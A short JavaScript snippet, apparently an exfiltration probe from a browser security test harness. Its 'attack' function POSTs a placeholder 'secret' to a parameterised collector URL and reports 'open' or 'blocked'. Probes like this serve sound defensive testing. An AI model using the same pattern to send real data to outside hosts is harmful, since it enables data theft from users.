const attack = ({ collector }) =>
  new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.open("POST", `${collector}/xhr`);
    request.onload = () => resolve("open");
    request.onerror = () => reject(new Error("blocked"));
    request.send("secret");
  });
